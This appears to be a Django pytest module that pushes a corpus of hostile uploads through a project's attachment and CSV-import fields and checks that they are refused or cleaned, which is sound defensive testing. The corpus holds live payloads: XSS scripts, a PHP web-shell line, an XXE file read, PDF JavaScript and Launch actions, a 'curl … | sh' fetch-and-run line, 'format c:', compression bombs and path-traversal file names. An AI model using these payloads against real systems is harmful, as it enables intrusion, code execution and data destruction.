"""Issue 7: an attack corpus of uploads, pushed through every upload field.

The upload fields of the project (no model or form has another FileField or
ImageField):

    thread     a new thread's attachments      boards:thread_create
    reply      a reply's attachments           boards:reply
    edit       attachments added to an edit    boards:post_edit
    csv        the office's member-list import admin:members_organisation_import

A refused file comes back as the form, status 200, with a Japanese error on
the field, and leaves no row changed and nothing in MEDIA_ROOT.

Two kinds of hostile upload are not refused, by design, and are checked on
what is stored instead: images whose pixels are valid are decoded and
encoded again (boards.attachments), so whatever was hidden in or after them
is gone; and a hostile file name is cleaned for display while the file is
stored under a random name.

Requests are built by hand (multipart) because Django's test client drops
any path from a file name before sending it; here the name arrives exactly
as an attacker would send it. How each type of file is recognised is tested
on prepare_upload in tests/boards/test_attachments.py; this module proves
the same refusals hold end to end in every field.
"""

import base64
import functools
import html
import io
import random
import re
import struct
import zipfile
import zlib
from pathlib import Path
from urllib.parse import quote

import pytest
from django.apps import apps
from django.urls import reverse
from PIL import Image

from boards.models import Attachment
from members.models import Organisation
from tests import factories

from .test_authorisation_matrix import VOLATILE_FIELDS, VOLATILE_MODELS, _fingerprint

pytestmark = pytest.mark.django_db

# Small enough that an over-limit file is cheap to build; the checks scale
# with it (a ZIP may unpack to ten times the limit).
LIMIT = 2 * 1024 * 1024
SCRIPT = b"<script>alert(document.cookie)</script>"
STORED_NAME = re.compile(r"^attachments/\d{4}/\d{2}/[0-9a-f]{32}\.(pdf|png|jpg|webp)$")


@pytest.fixture(autouse=True)
def _limits(settings):
    settings.BOARDS_MAX_UPLOAD_BYTES = LIMIT
    settings.RENKEI_REQUIRE_STAFF_MFA = False


# ----- building files -----


def _image(image_format="PNG", size=(40, 30), **options):
    output = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(output, image_format, **options)
    return output.getvalue()


def _chunk(kind, data):
    crc = zlib.crc32(kind + data)
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)


def _png(width, height, pixels=b"\x00" * 64, colour_type=2):
    header = struct.pack(">IIBBBBB", width, height, 8, colour_type, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", pixels)
        + _chunk(b"IEND", b"")
    )


@functools.cache
def _png_bomb():
    """A real grey PNG of 7,000 × 7,000 pixels of zeros: 49 MB in ~50 kB."""
    side = 7000
    packer = zlib.compressobj(9)
    row = b"\x00" * (side + 1)  # filter byte, then the pixels
    packed = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    return _png(side, side, packed, colour_type=0)


def _jpeg_claiming(width, height):
    """A small JPEG whose frame header claims another size."""
    data = bytearray(_image("JPEG", size=(16, 16)))
    start = data.index(b"\xff\xc0") + 5  # marker, length, precision
    data[start : start + 4] = struct.pack(">HH", height, width)
    return bytes(data)


def _webp_claiming(width, height):
    """A small lossy WebP whose VP8 frame header claims another size."""
    data = bytearray(_image("WEBP", size=(16, 16)))
    start = data.index(b"\x9d\x01\x2a") + 3
    data[start : start + 4] = struct.pack("<HH", width, height)
    return bytes(data)


def _gif():
    output = io.BytesIO()
    Image.new("P", (8, 8)).save(output, "GIF")
    return output.getvalue()


def _pdf(body=b"", extra_objects=b""):
    return (
        b"%PDF-1.7\n"
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + body + b" >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
        + extra_objects
        + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )


def _zip(entries, method=zipfile.ZIP_DEFLATED):
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", method) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return output.getvalue()


OFFICE_MAIN_PART = {
    "docx": "word/document.xml",
    "xlsx": "xl/workbook.xml",
    "pptx": "ppt/presentation.xml",
}


def _office(kind, **extra):
    return _zip(
        {
            "[Content_Types].xml": '<?xml version="1.0"?><Types/>',
            "_rels/.rels": '<?xml version="1.0"?><Relationships/>',
            OFFICE_MAIN_PART[kind]: '<?xml version="1.0"?><root/>',
            **extra,
        }
    )


@functools.cache
def _many_entries():
    return _office("xlsx", **{f"xl/media/{n}.xml": b"" for n in range(10_001)})


@functools.cache
def _unpacks_past_the_limit():
    """Members that each pack only ~40:1, but unpack to over ten times the limit."""
    rng = random.Random(7)  # noqa: S311 (test data, not a secret)
    member = b"".join(
        bytes([rng.randrange(256)]) * rng.randrange(20, 60) for _ in range(26_000)
    )
    count = 10 * LIMIT // len(member) + 1
    return _office("pptx", **{f"ppt/media/{n}.bin": member for n in range(count)})


HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
XXE = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    b"<x>&e;</x>"
)
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120
MZ = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 118 + b"PE\x00\x00"


# ----- the corpus of refused files -----

# id: (file name, content builder, expected error code on the field)
REFUSED = {
    # Polyglots whose image part is not a valid accepted image.
    "gif-with-html": ("animation.gif", lambda: _gif() + HTML, "unsupported_type"),
    "gifar-js-as-png": (
        "logo.png",
        lambda: b"GIF89a/*\x01\x00\x01\x00*/=1;alert(document.domain);//",
        "unsupported_type",
    ),
    "jpeg-magic-then-html": (
        "photo.jpg",
        lambda: b"\xff\xd8\xff\xe0" + HTML,
        "invalid_image",
    ),
    "png-magic-then-html": (
        "photo.png",
        lambda: b"\x89PNG\r\n\x1a\n" + HTML,
        "invalid_image",
    ),
    "webp-magic-then-html": (
        "photo.webp",
        lambda: b"RIFF\x00\x10\x00\x00WEBPVP8 " + HTML,
        "invalid_image",
    ),
    "pdf-magic-html-without-eof": (
        "guide.pdf",
        lambda: b"%PDF-1.4\n" + HTML,
        "invalid_pdf",
    ),
    "html-then-pdf": ("guide.pdf", lambda: HTML + _pdf(), "unsupported_type"),
    "zip-named-png": (
        "photo.png",
        lambda: _zip({"index.html": HTML}),
        "unsupported_type",
    ),
    # Wrong magic bytes for the extension.
    "random-bytes-as-png": (
        "photo.png",
        lambda: bytes(range(256)) * 4,
        "unsupported_type",
    ),
    "text-as-jpg": ("photo.jpg", lambda: "写真です".encode(), "unsupported_type"),
    "bmp-as-png": ("photo.png", lambda: _image("BMP"), "unsupported_type"),
    "tiff-as-jpg": ("photo.jpg", lambda: _image("TIFF"), "unsupported_type"),
    "gzip-as-pdf": (
        "guide.pdf",
        lambda: b"\x1f\x8b\x08\x00" + b"\x00" * 40,
        "unsupported_type",
    ),
    "ole-xls": (
        "meibo.xls",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,
        "legacy_office",
    ),
    "truncated-png": ("photo.png", lambda: _image()[:70], "invalid_image"),
    "truncated-docx": ("form.docx", lambda: _office("docx")[:-40], "invalid_document"),
    # HTML, SVG and XML disguised as images and PDFs.
    "html-as-png": ("photo.png", lambda: HTML, "unsupported_type"),
    "html-as-jpg": ("photo.jpg", lambda: HTML, "unsupported_type"),
    "html-as-pdf": ("guide.pdf", lambda: HTML, "unsupported_type"),
    "html-utf16-as-png": (
        "photo.png",
        lambda: "\ufeff<html><script>alert(1)</script>".encode("utf-16-le"),
        "unsupported_type",
    ),
    "svg-as-svg": ("logo.svg", lambda: SVG, "unsupported_type"),
    "svg-as-png": ("logo.png", lambda: SVG, "unsupported_type"),
    "svg-as-jpg": ("logo.jpg", lambda: b"  \n" + SVG, "unsupported_type"),
    "xml-xxe-as-pdf": ("guide.pdf", lambda: XXE, "unsupported_type"),
    "xhtml-as-jpg": (
        "photo.jpg",
        lambda: (
            b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">'
            + SCRIPT
            + b"</html>"
        ),
        "unsupported_type",
    ),
    "php-as-jpg": (
        "photo.jpg",
        lambda: b"<?php system($_GET['c']); ?>",
        "unsupported_type",
    ),
    # PDFs that run something when opened.
    "pdf-openaction-javascript": (
        "guide.pdf",
        lambda: _pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        "pdf_active_content",
    ),
    "pdf-openaction-launch": (
        "guide.pdf",
        lambda: _pdf(b"/OpenAction << /S /Launch /F (C:\\\\Windows\\\\calc.exe) >>"),
        "pdf_active_content",
    ),
    "pdf-additional-action-javascript": (
        "guide.pdf",
        lambda: _pdf(b"/AA << /O << /S /JavaScript /JS (app.alert(1)) >> >>"),
        "pdf_active_content",
    ),
    "pdf-names-javascript": (
        "guide.pdf",
        lambda: _pdf(b"/Names << /JavaScript 5 0 R >>"),
        "pdf_active_content",
    ),
    "pdf-hex-escaped-launch": (
        "guide.pdf",
        lambda: _pdf(b"/OpenAction << /S /#4C#61unch /F (cmd.exe) >>"),
        "pdf_active_content",
    ),
    "pdf-embedded-file": (
        "guide.pdf",
        lambda: _pdf(b"/Names << /EmbeddedFiles 5 0 R >>"),
        "pdf_active_content",
    ),
    "pdf-javascript-in-object-stream": (
        "guide.pdf",
        lambda: _pdf(
            extra_objects=_object_stream(b"5 0 << /S /JavaScript /JS (app.alert(1)) >>")
        ),
        "pdf_active_content",
    ),
    "pdf-javascript-in-hex-encoded-object-stream": (
        "guide.pdf",
        lambda: _pdf(extra_objects=_object_stream(JS_OBJECT, b"/ASCIIHexDecode", _hex)),
        "pdf_active_content",
    ),
    "pdf-javascript-in-ascii85-object-stream": (
        "guide.pdf",
        lambda: _pdf(
            extra_objects=_object_stream(JS_OBJECT, b"/ASCII85Decode", _ascii85)
        ),
        "pdf_active_content",
    ),
    "pdf-javascript-in-hex-then-flate-object-stream": (
        "guide.pdf",
        lambda: _pdf(
            extra_objects=_object_stream(
                JS_OBJECT,
                b"[/AHx /Fl]",
                lambda objects: _hex(zlib.compress(objects)),
            )
        ),
        "pdf_active_content",
    ),
    "pdf-object-stream-in-an-unchecked-filter": (
        "guide.pdf",
        lambda: _pdf(
            extra_objects=_object_stream(JS_OBJECT, b"/LZWDecode", lambda o: o[::-1])
        ),
        "invalid_pdf",
    ),
    "pdf-object-stream-bomb": (
        "guide.pdf",
        lambda: _pdf(extra_objects=_object_stream(b" " * (LIMIT * 4))),
        "compression_bomb",
    ),
    # Office files with macros and embedded programs.
    "docx-with-macros": (
        "form.docx",
        lambda: _office("docx", **{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        "document_active_content",
    ),
    "xlsm-as-xlsx": (
        "meibo.xlsx",
        lambda: _office("xlsx", **{"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        "document_active_content",
    ),
    "pptx-with-macros": (
        "slides.pptx",
        lambda: _office("pptx", **{"ppt/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        "document_active_content",
    ),
    "docx-with-activex": (
        "form.docx",
        lambda: _office("docx", **{"word/activeX/activeX1.bin": b"\x00" * 64}),
        "document_active_content",
    ),
    "xlsx-with-ole-object": (
        "meibo.xlsx",
        lambda: _office("xlsx", **{"xl/embeddings/oleObject1.bin": b"\x00" * 64}),
        "document_active_content",
    ),
    # ZIP bombs.
    "docx-huge-ratio-member": (
        "form.docx",
        lambda: _office("docx", **{"word/media/fill.xml": b"\x00" * 5_000_000}),
        "compression_bomb",
    ),
    "xlsx-huge-ratio-member": (
        "meibo.xlsx",
        lambda: _office("xlsx", **{"xl/sharedStrings.xml": b"A" * 5_000_000}),
        "compression_bomb",
    ),
    "pptx-unpacks-past-the-limit": (
        "slides.pptx",
        _unpacks_past_the_limit,
        "compression_bomb",
    ),
    "xlsx-ten-thousand-entries": ("meibo.xlsx", _many_entries, "compression_bomb"),
    # Images that would take gigabytes to decode.
    "png-decompression-bomb": ("map.png", _png_bomb, "image_too_large"),
    "png-claims-50000-square": (
        "map.png",
        lambda: _png(50_000, 50_000),
        "image_too_large",
    ),
    "png-too-wide": ("map.png", lambda: _png(10_001, 1), "image_too_large"),
    "jpeg-claims-60000-square": (
        "map.jpg",
        lambda: _jpeg_claiming(60_000, 60_000),
        "image_too_large",
    ),
    "webp-claims-16000-square": (
        "map.webp",
        lambda: _webp_claiming(16_000, 16_000),
        "image_too_large",
    ),
    # Empty files.
    "empty-pdf": ("guide.pdf", lambda: b"", "empty"),
    "empty-png": ("photo.png", lambda: b"", "empty"),
    "empty-docx": ("form.docx", lambda: b"", "empty"),
    # Over the size limit.
    "pdf-over-the-limit": (
        "guide.pdf",
        lambda: _pdf(b"/Padding (" + b"x" * LIMIT + b")"),
        "too_large",
    ),
    "png-over-the-limit": (
        "photo.png",
        lambda: _png(40, 30) + b"\x00" * LIMIT,
        "too_large",
    ),
    # Programs.
    "windows-exe": ("setup.exe", lambda: MZ, "unsupported_type"),
    "windows-exe-as-pdf": ("guide.pdf", lambda: MZ, "unsupported_type"),
    "elf-as-pdf": ("guide.pdf", lambda: ELF, "unsupported_type"),
    "shell-script-as-pdf": (
        "guide.pdf",
        lambda: b"#!/bin/sh\ncurl http://example.invalid/x | sh\n",
        "unsupported_type",
    ),
    "batch-file": (
        "run.bat",
        lambda: b"@echo off\r\nformat c: /q\r\n",
        "unsupported_type",
    ),
    "mach-o-as-jpg": (
        "photo.jpg",
        lambda: b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 64,
        "unsupported_type",
    ),
    "java-class-as-png": (
        "photo.png",
        lambda: b"\xca\xfe\xba\xbe\x00\x00\x00\x41" + b"\x00" * 64,
        "unsupported_type",
    ),
    "rtl-override-exe": ("photo\u202egnp.exe", lambda: MZ, "unsupported_type"),
}


JS_OBJECT = b"5 0 << /S /JavaScript /JS (app.alert(1)) >>"


def _hex(data):
    return data.hex().encode() + b">"


def _ascii85(data):
    return base64.a85encode(data) + b"~>"


def _object_stream(
    objects, filters=b"/FlateDecode", pack=lambda o: zlib.compress(o, 9)
):
    packed = pack(objects)
    return (
        b"3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter "
        + filters
        + b" /Length "
        + str(len(packed)).encode()
        + b" >>\nstream\n"
        + packed
        + b"\nendstream\nendobj\n"
    )


# ----- files that are accepted, with the danger taken out -----

# id: (file name, content builder, bytes that must not be stored)
NEUTRALISED_IMAGES = {
    "jpeg-with-html-appended": ("photo.jpg", lambda: _image("JPEG") + HTML, SCRIPT),
    "jpeg-with-script-comment": (
        "photo.jpg",
        lambda: _with_jpeg_comment(_image("JPEG"), SCRIPT),
        SCRIPT,
    ),
    "jpeg-with-php-comment": (
        "photo.jpg",
        lambda: _with_jpeg_comment(_image("JPEG"), b"<?php system($_GET['c']); ?>"),
        b"<?php",
    ),
    "png-with-zip-appended": (
        "photo.png",
        lambda: _image() + _zip({"index.html": HTML}),
        b"PK\x03\x04",
    ),
    "png-with-html-text-chunk": (
        "photo.png",
        lambda: _with_png_chunk(_image(), b"tEXt", b"Comment\x00" + SCRIPT),
        SCRIPT,
    ),
    "webp-with-html-appended": ("photo.webp", lambda: _image("WEBP") + HTML, SCRIPT),
}


def _with_jpeg_comment(jpeg, comment):
    segment = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return jpeg[:2] + segment + jpeg[2:]


def _with_png_chunk(png, kind, data):
    end = png.rindex(b"IEND") - 4
    return png[:end] + _chunk(kind, data) + png[end:]


# ----- hostile names on valid files -----

HOSTILE_NAMES = {
    "parent-dirs": "../../etc/passwd",
    "parent-dirs-windows": "..\\..\\windows\\win.ini",
    "absolute-path": "/etc/cron.d/job",
    "windows-drive": "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "unc-path": "\\\\server\\share\\x",
    "html-entity-dots": "&#46;&#46;&#47;&#46;&#46;&#47;x",
    "percent-encoded": "%2e%2e%2f%2e%2e%2fx",
    "nul-byte": "photo\x00.php",
    "control-characters": "a\nb\rc\x1b[31m\x07d",
    "newline-header-injection": "x\r\nContent-Type: text/html\r\n\r\n<script>",
    "very-long": "a" * 600,
    "windows-reserved": "CON",
    "windows-reserved-with-extension": "NUL.txt",
    "rtl-override": "photo\u202egnp.exe",
    "zero-width": "pho\u200bto\ufeff",
    "only-dots": "...",
    "trailing-dots-spaces": "photo. . .",
    "html-in-name": '"><img src=x onerror=alert(1)>',
}


# ----- requests -----

BOUNDARY = "renkei-test-boundary-7f3a"


def _multipart(fields, files):
    """A multipart body carrying the file names byte for byte (RFC 5987)."""
    parts = []
    for name, value in fields.items():
        parts.append(
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'
            f"{value}\r\n".encode()
        )
    for field_name, file_name, content in files:
        parts.append(
            (
                f"--{BOUNDARY}\r\nContent-Disposition: form-data; "
                f'name="{field_name}"; '
                f"filename*=UTF-8''{quote(file_name, safe='')}\r\n"
                "Content-Type: application/octet-stream\r\n\r\n"
            ).encode()
            + content
            + b"\r\n"
        )
    parts.append(f"--{BOUNDARY}--\r\n".encode())
    return b"".join(parts)


def _post(client, url, fields, files):
    return client.post(
        url,
        data=_multipart(fields, files),
        content_type=f"multipart/form-data; boundary={BOUNDARY}",
    )


@pytest.fixture
def board(member):
    thread = factories.make_thread(author=member, category="other", title="元の件名")
    reply = factories.make_reply(thread=thread, author=member, body="元の返信")
    return thread, reply


def _board_request(field, board):
    thread, reply = board
    if field == "thread":
        url = reverse("boards:thread_create", args=["other"])
        return url, {"title": "防災訓練のご案内", "body": "資料を添付します。"}
    if field == "reply":
        return reverse("boards:reply", args=[thread.pk]), {"body": "添付します。"}
    return reverse("boards:post_edit", args=[reply.pk]), {"body": "編集後の本文"}


BOARD_FIELDS = ("thread", "reply", "edit")


def _board_rows():
    """Every row of the boards app (a cheaper _fingerprint for board posts)."""
    rows = {}
    for model in apps.get_app_config("boards").get_models():
        if model._meta.label_lower in VOLATILE_MODELS:
            continue
        fields = [
            f.attname
            for f in model._meta.concrete_fields
            if f.attname not in VOLATILE_FIELDS
        ]
        rows[model._meta.label] = list(
            model.objects.order_by("pk").values_list(*fields)
        )
    return rows


def _files_under(root):
    root = Path(root)
    if not root.exists():
        return set()
    return {path for path in root.rglob("*") if path.is_file()}


def _refusal_problems(response, field_name, code, shown_name=None):
    """Why a response is not a clean refusal on field_name with code."""
    if response.status_code != 200:
        return [f"status {response.status_code}"]
    form = response.context["form"]
    errors = form.errors.as_data().get(field_name, [])
    codes = [error.code for error in errors]
    if codes != [code]:
        return [f"error codes on {field_name}: {codes} (all: {form.errors.as_data()})"]
    message = errors[0].messages[0]
    problems = []
    if not re.search(r"[\u3040-\u30ff\u4e00-\u9fff]", message):
        problems.append(f"message not in Japanese: {message}")
    if html.escape(message) not in response.content.decode():
        problems.append(f"message not shown: {message}")
    if shown_name is not None and shown_name not in message:
        problems.append(f"message does not name {shown_name!r}: {message}")
    return problems


# ----- board attachments: refused -----


def _refused_params():
    for field in BOARD_FIELDS:
        for case in REFUSED:
            yield pytest.param(field, case, id=f"{field}-{case}")


@pytest.mark.parametrize(("field", "case"), _refused_params())
def test_hostile_attachment_is_refused_cleanly(
    member_client, board, settings, field, case
):
    file_name, build, code = REFUSED[case]
    url, fields = _board_request(field, board)
    media_before = _files_under(settings.MEDIA_ROOT)
    rows_before = _board_rows()

    response = _post(member_client, url, fields, [("attachments", file_name, build())])

    assert _refusal_problems(response, "attachments", code) == []
    assert _board_rows() == rows_before
    assert _files_under(settings.MEDIA_ROOT) == media_before


@pytest.mark.parametrize("field", BOARD_FIELDS)
def test_one_hostile_file_among_good_ones_saves_none_of_them(
    member_client, board, settings, field
):
    url, fields = _board_request(field, board)
    rows_before = _board_rows()
    response = _post(
        member_client,
        url,
        fields,
        [
            ("attachments", "案内.pdf", _pdf()),
            ("attachments", "会場.png", _image()),
            ("attachments", "guide.pdf", _pdf(b"/OpenAction << /S /JavaScript >>")),
        ],
    )
    assert _refusal_problems(response, "attachments", "pdf_active_content") == []
    assert _board_rows() == rows_before
    assert _files_under(settings.MEDIA_ROOT) == set()


def test_the_corpus_is_large_and_covers_each_kind_of_refusal():
    codes = {code for _name, _build, code in REFUSED.values()}
    assert codes == {
        "unsupported_type",
        "invalid_image",
        "invalid_pdf",
        "invalid_document",
        "legacy_office",
        "pdf_active_content",
        "document_active_content",
        "compression_bomb",
        "image_too_large",
        "empty",
        "too_large",
    }
    assert len(REFUSED) + len(NEUTRALISED_IMAGES) + len(HOSTILE_NAMES) >= 80


def test_the_bombs_are_small_files():
    assert len(_png_bomb()) < 100_000
    for case in ("docx-huge-ratio-member", "xlsx-huge-ratio-member"):
        assert len(REFUSED[case][1]()) < 100_000
    # This one is refused for its total, not for any one member's ratio.
    packed = _unpacks_past_the_limit()
    assert len(packed) < LIMIT
    with zipfile.ZipFile(io.BytesIO(packed)) as archive:
        entries = archive.infolist()
    assert max(e.file_size / e.compress_size for e in entries if e.compress_size) < 100
    assert sum(e.file_size for e in entries) > 10 * LIMIT


def test_a_file_name_longer_than_the_header_limit_is_a_bad_request(
    member_client, board, settings
):
    url, fields = _board_request("reply", board)
    rows_before = _board_rows()
    response = _post(
        member_client, url, fields, [("attachments", "長" * 2000, _image())]
    )
    assert response.status_code == 400
    assert _board_rows() == rows_before
    assert _files_under(settings.MEDIA_ROOT) == set()


# ----- board attachments: accepted with the danger removed -----


def _stored(attachment):
    with attachment.file.open("rb") as stored:
        return stored.read()


@pytest.mark.parametrize("field", BOARD_FIELDS)
@pytest.mark.parametrize("case", NEUTRALISED_IMAGES)
def test_images_carrying_payloads_are_stored_without_them(
    member_client, board, field, case
):
    file_name, build, payload = NEUTRALISED_IMAGES[case]
    url, fields = _board_request(field, board)
    response = _post(member_client, url, fields, [("attachments", file_name, build())])
    assert response.status_code == 302
    attachment = Attachment.objects.get()
    content = _stored(attachment)
    assert payload not in content
    assert b"<script" not in content
    assert Image.open(io.BytesIO(content)).size == (40, 30)


def test_a_pdf_containing_html_is_only_ever_downloaded_as_a_pdf(member_client, board):
    url, fields = _board_request("reply", board)
    polyglot = _pdf(b"/Title (" + HTML + b")")
    _post(member_client, url, fields, [("attachments", "guide.html", polyglot)])
    attachment = Attachment.objects.get()
    assert attachment.original_name == "guide.html.pdf"
    response = member_client.get(
        reverse(
            "boards:attachment_download", args=[attachment.pk, attachment.original_name]
        )
    )
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    response.close()


@pytest.mark.parametrize(
    ("file_name", "build", "shown"),
    [
        ("写真.pdf", lambda: _image("JPEG"), "写真.pdf.jpg"),
        ("案内.png", _pdf, "案内.png.pdf"),
        ("案内.exe", _pdf, "案内.exe.pdf"),
        ("申込書.pdf", lambda: _office("docx"), "申込書.pdf.docx"),
    ],
)
def test_a_file_is_kept_as_what_its_content_is(
    member_client, board, file_name, build, shown
):
    url, fields = _board_request("reply", board)
    _post(member_client, url, fields, [("attachments", file_name, build())])
    attachment = Attachment.objects.get()
    assert attachment.original_name == shown
    assert Path(attachment.file.name).suffix == Path(shown).suffix


def test_an_encrypted_pdf_is_not_refused_for_what_cannot_be_read(member_client, board):
    """Permission-protected PDFs are common; their object streams stay shut."""
    url, fields = _board_request("reply", board)
    encrypted = _pdf(
        extra_objects=_object_stream(b"\x8f" * 64, pack=lambda o: o)
        + b"9 0 obj\n<< /Filter /Standard /V 2 >>\nendobj\n"
    ).replace(b"trailer\n<< ", b"trailer\n<< /Encrypt 9 0 R ")
    response = _post(
        member_client, url, fields, [("attachments", "保護.pdf", encrypted)]
    )
    assert response.status_code == 302
    assert Attachment.objects.get().original_name == "保護.pdf"


# ----- hostile names -----


@pytest.mark.parametrize("case", HOSTILE_NAMES)
def test_hostile_names_never_reach_storage(member_client, board, settings, case):
    raw = HOSTILE_NAMES[case]
    url, fields = _board_request("reply", board)
    response = _post(member_client, url, fields, [("attachments", raw, _image())])
    assert response.status_code == 302
    media = Path(settings.MEDIA_ROOT).resolve()
    for attachment in Attachment.objects.all():
        assert STORED_NAME.match(attachment.file.name), attachment.file.name
        assert Path(attachment.file.path).resolve().is_relative_to(media)
        shown = attachment.original_name
        assert not re.search(r"[/\\\x00-\x1f\x7f\u200b\u202a-\u202e\ufeff]", shown)
        assert shown.endswith(".png")
        assert len(shown) <= 255
    # Only the stored file and its thumbnail were written, under MEDIA_ROOT.
    written = _files_under(settings.MEDIA_ROOT)
    assert len(written) == 2 * Attachment.objects.count()
    assert _files_under(Path(settings.MEDIA_ROOT).parent) == written


def test_a_right_to_left_override_cannot_disguise_a_file(member_client, board):
    url, fields = _board_request("reply", board)
    _post(member_client, url, fields, [("attachments", "photo\u202egnp.exe", _image())])
    assert Attachment.objects.get().original_name == "photognp.exe.png"


def test_a_valid_file_is_stored_under_a_random_name_without_user_parts(
    member_client, board
):
    url, fields = _board_request("reply", board)
    _post(member_client, url, fields, [("attachments", "../../秘密の資料.pdf", _pdf())])
    attachment = Attachment.objects.get()
    assert attachment.original_name == "秘密の資料.pdf"
    assert STORED_NAME.match(attachment.file.name)
    assert "秘密" not in attachment.file.name
    assert ".." not in attachment.file.name


# ----- the office's CSV import -----

CSV_HEADER = "団体コード,団体名,会員状態\n"
CSV_ROW = "131016,千代田区,会員\n"

# id: (file name, content builder, expected error code on the file field)
CSV_REFUSED = {
    "empty": ("members.csv", lambda: b"", "empty"),
    "not-csv-name": ("members.xlsx", lambda: _office("xlsx"), "extension"),
    "exe-name": ("members.exe", lambda: MZ, "extension"),
    "html-name": ("members.html", lambda: HTML, "extension"),
    "double-extension": ("members.csv.exe", lambda: MZ, "extension"),
    "over-2mb": (
        "members.csv",
        lambda: (CSV_HEADER + CSV_ROW * 150_000).encode(),
        "too_large",
    ),
    "shift-jis": ("members.csv", lambda: (CSV_HEADER + CSV_ROW).encode("cp932"), None),
    "exe-as-csv": ("members.csv", lambda: MZ, None),
    "elf-as-csv": ("members.csv", lambda: ELF, None),
    "png-as-csv": ("members.csv", _image, None),
    "zip-bomb-as-csv": (
        "members.csv",
        lambda: _zip({"a.csv": b"0" * 5_000_000}),
        None,
    ),
    "xlsx-as-csv": ("members.csv", lambda: _office("xlsx"), None),
    "html-as-csv": ("members.csv", lambda: HTML, None),
    "nul-bytes": ("members.csv", lambda: b"\x00" * 64, None),
    "unbalanced-quotes": (
        "members.csv",
        lambda: (CSV_HEADER + '"131016,千代田区,会員\n').encode(),
        None,
    ),
    "header-only": ("members.csv", lambda: CSV_HEADER.encode(), None),
    "bom-only": ("members.csv", lambda: b"\xef\xbb\xbf", None),
    "blank-lines-only": ("members.csv", lambda: b"\r\n\r\n", None),
    "path-traversal-name": (
        "../../../etc/members.csv",
        lambda: (CSV_HEADER + '"131016,\n').encode(),
        None,
    ),
}


@pytest.fixture
def office_client(client, office_staff):
    client.force_login(office_staff)
    return client


def _import(client, file_name, content):
    return _post(
        client,
        reverse("admin:members_organisation_import"),
        {"mode": "all_or_nothing"},
        [("file", file_name, content)],
    )


@pytest.mark.parametrize("case", CSV_REFUSED)
def test_hostile_member_lists_are_refused_cleanly(office_client, settings, case):
    file_name, build, code = CSV_REFUSED[case]
    rows_before = _fingerprint()
    organisations_before = Organisation.objects.count()

    response = _import(office_client, file_name, build())

    assert response.status_code == 200
    form = response.context["form"]
    errors = form.errors.as_data().get("file", [])
    assert len(errors) == 1, form.errors
    if code is not None:
        assert errors[0].code == code
    message = errors[0].messages[0]
    assert re.search(r"[\u3040-\u30ff\u4e00-\u9fff]", message), message
    assert html.escape(message) in response.content.decode()
    # No preview was made, so nothing waits in the session to be applied.
    assert "members_csv_import" not in office_client.session
    assert Organisation.objects.count() == organisations_before
    assert _fingerprint() == rows_before
    assert _files_under(settings.MEDIA_ROOT) == set()


def test_the_csv_corpus_was_counted():
    assert len(CSV_REFUSED) >= 15
